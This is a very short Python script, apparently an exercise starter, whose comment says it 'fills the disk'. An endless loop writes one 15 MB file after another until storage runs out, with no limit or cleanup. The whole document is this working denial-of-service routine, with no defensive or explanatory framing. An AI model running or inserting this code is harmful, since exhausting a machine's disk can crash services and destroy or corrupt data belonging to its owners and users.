# due 0: fills the disk
#: starter
n = 0
while True:
    n += 1
    with open(f'f{n}', 'wb') as f: f.write(b'x' * 15_000_000)
